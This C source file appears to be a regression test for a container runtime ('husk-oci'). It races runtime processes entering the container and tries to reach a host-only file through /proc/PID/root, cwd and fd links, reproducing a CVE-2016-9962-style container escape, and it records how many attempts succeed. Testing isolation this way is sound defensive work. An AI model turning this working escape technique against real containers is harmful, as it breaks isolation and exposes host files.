/* A container process with CAP_SYS_PTRACE races the runtime's processes
 * that enter its pid namespace (`husk-oci exec`) and tries to reach the
 * host through their /proc/PID/root, /proc/PID/cwd and /proc/PID/fd/N
 * while they are still outside the container's mount namespace
 * (CVE-2016-9962 shape).
 *
 *   proc_root_race HOSTPATH STOPFILE OUTFILE
 *	HOSTPATH is an absolute path that exists on the host only.  Until
 *	STOPFILE exists, for every other process try to open
 *	/proc/PID/root/HOSTPATH and, for its cwd and fds,
 *	/proc/PID/{cwd,fd/N}/<basename of HOSTPATH>.  Writes
 *	"tries=N escaped=N" (and the first path that worked) to OUTFILE. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <libgen.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: %s HOSTPATH STOPFILE OUTFILE\n", argv[0]);
		return 64;
	}
	const char *host = argv[1];
	char *copy = strdup(host);
	const char *base = basename(copy);
	long tries = 0, escaped = 0;
	char first[4200] = "";
	pid_t self = getpid();
	while (access(argv[2], F_OK) != 0) {
		DIR *d = opendir("/proc");
		if (!d)
			return 1;
		struct dirent *e;
		while ((e = readdir(d))) {
			char *end;
			long pid = strtol(e->d_name, &end, 10);
			if (*end || pid <= 1 || pid == self)
				continue;
			char p[4200];
			tries++;
			snprintf(p, sizeof(p), "/proc/%ld/root%s", pid, host);
			int fd = open(p, O_RDONLY | O_CLOEXEC);
			if (fd < 0) {
				snprintf(p, sizeof(p), "/proc/%ld/cwd/%s", pid, base);
				fd = open(p, O_RDONLY | O_CLOEXEC);
			}
			for (int n = 0; fd < 0 && n < 16; n++) {
				snprintf(p, sizeof(p), "/proc/%ld/fd/%d/%s", pid, n, base);
				fd = open(p, O_RDONLY | O_CLOEXEC);
			}
			if (fd >= 0) {
				close(fd);
				if (!escaped++)
					snprintf(first, sizeof(first), "%s", p);
			}
		}
		closedir(d);
	}
	FILE *f = fopen(argv[3], "w");
	if (!f)
		return 1;
	fprintf(f, "tries=%ld escaped=%ld %s\n", tries, escaped, first);
	fclose(f);
	return 0;
}
